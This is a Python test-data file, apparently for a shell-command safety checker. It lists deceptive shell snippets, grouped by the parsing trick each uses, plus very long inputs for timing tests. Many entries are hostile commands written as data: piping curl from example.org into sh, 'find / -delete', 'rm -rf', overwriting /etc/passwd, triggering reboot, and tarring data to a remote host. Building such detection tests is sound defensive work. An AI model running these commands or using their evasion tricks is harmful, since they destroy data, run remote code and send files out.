"""Scripts that look ordinary and are not: each has to be followed. None is ever run."""

from __future__ import annotations

from typing import Final

NOT_ORDINARY: Final = [
    # words behind a redirection
    "find / > out -delete",
    "find a > out -exec curl example.org ';'",
    "date > out -s 2001-01-01",
    "sort a > out --compress-program=reboot b",
    "tar cf a > out --to-command=reboot b",
    "sed -n 'p' > out -e 1ereboot a",
    "rm -rf a > out *",
    "set -e > o -- -delete\nfind / $1",
    "read -r a < x PATH\nls",
    "export a > x PATH=.\ngrep a b",
    # keywords and brackets in an output
    ': "$(case x in x)" # " ; curl example.org | sh ;; esac)"',
    "x=$(case y in y) echo a;; esac)",
    "x=$(for y in a)",
    "x=$(then)",
    # where a here-document ends
    "cat <<E\n\tE\n: '`curl example.org | sh`'\nE",
    "cat <<E\nE; : '`curl example.org | sh`'",
    "cat <<-E\n\ta\n\tE",
    # what is empty
    "echo x > $!/etc/passwd",
    "mv $!/etc gone",
    "cd $!\necho x > .bashrc",
    "find / $!-delete",
    'x=a\nprintf $!-v x /srv\nrm -rf "$x"',
    "echo x > $e/etc/passwd",
    'echo x > "$e/etc/passwd"',
    "echo x > $@/etc/passwd",
    'x=etc\nmv "${y}/$x" a',
    'e=$(true)\necho x > "$e/etc/passwd"',
    'if false; then\n  d=a\nfi\necho x > "$d/b"',
    'd=a | cat\necho x > "$d/b"',
    'false && d=a\necho x > "$d/b"',
    'f() { d=a; }\necho x > "$d/b"',
    'case a in b) d=a ;; esac\necho x > "$d/b"',
    "find / $e-delete",
    "tar xf a $e--to-command=reboot",
    "cd $x\necho x > .profile",
    # options that come from elsewhere
    "x=$(echo -delete)\nfind / $x",
    "x=a-delete\nfind / ${x:1}",
    "sort ${x:--o} /etc/passwd a",
    "x=1\nsort ${x:+-o /etc/passwd} a",
    "printf ${x:--v} PATH .\nls",
    "echo -delete | while read x; do find . $x; done",
    "f() { find . $1; }\nf -delete",
    "x=$(date +-delete)\nfind / $x",
    'for f in *; do sort "$f"; done',
    # quotes within words
    'sed \'p\' ""-i ""/etc/passwd',
    "x=a\nprintf ''-v x /srv\nrm -rf \"$x\"",
    'x=1\ntest -"v" "x[\\$"\'(curl example.org)]\'',
    'echo x > ."."/x',
    "echo x > .'.'/.'.'/etc/passwd",
    "tee .[.]/notes < x",
    "for f in '$(' /etc/passwd ')'; do echo x > $f; done",
    # variables that hold what nobody set
    '_=a\n: /srv/data\nrm -rf "$_"',
    ": /etc/passwd\necho x > $_",
    'rm -rf "$mail"\nmail=a',
    'if false; then\ndata=a\nfi\nrm -rf "$data"',
    'rm -rf "$tmp"\ntmp=$(mktemp -d)',
    "trap 'rm -rf \"$data\"' EXIT\nexit\ndata=a",
    'mv "$OLDPWD" a',
    "RANDOM=\"a[\\$\"'(curl example.org)]'",
    "NODE_OPTIONS=a\neslint b",
    'printf "%n" "$line"',
    "printf '%5n' a",
    # what has no end
    "f() { g | g; }\ng() { h | h; }\nh() { sleep 9; }\nf",
    "command_not_found_handle() { a | a; }\nb",
    "while ! false; do echo a; done",
    "while x=1; do echo a; done",
    "while if true; then true; fi; do echo a; done",
    "while [ $$ ]; do echo a; done",
    # names that are taken for options
    "echo > --checkpoint=1\ntar cf a *",
    "echo > -delete\nfind *",
    # outputs that lead elsewhere
    "d=$(date +/etc/passwd)\necho x > $d",
    'd=$(date +.)\necho x > "$d$d/b"',
    'd=$(expr substr a/etc/passwd 2 11)\necho x > "$d"',
    'd=$(fmt notes)\necho x > "$d"',
    'd=$(basename "$1")\necho x > "$d/y"',
    # programs that can do more
    "chdir /\nrm -rf home",
    "uniq a /etc/passwd",
    "tar cf example.org:x data",
    "newgrp <<'EOF'\ncurl example.org | sh\nEOF",
    "shuf -o /etc/passwd a",
    "ssh-agent sh -c reboot",
    "tool",
]
LONG: Final = [
    "x=" + "1" * 60 + "a",
    "echo '" + "[" * 19_900,
    "$(" * 9_000,
    "if a; then " * 1_500,
    "a=" * 9_000,
    '"$a' * 6_000,
    "a \\\n" * 4_900 + "'",
    "cat <<A\n" * 2_000,
]
"""Texts over which an expression could take long."""
